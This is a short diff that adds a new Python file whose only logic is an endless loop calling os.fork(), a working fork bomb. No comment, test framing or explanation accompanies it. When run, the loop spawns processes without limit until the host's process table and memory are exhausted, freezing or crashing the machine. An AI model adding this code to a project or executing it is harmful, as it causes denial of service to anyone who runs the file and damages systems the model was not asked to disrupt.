@@ -1,0 +1,6 @@
+from __future__ import annotations
+
+import os
+
+while True:
+    os.fork()
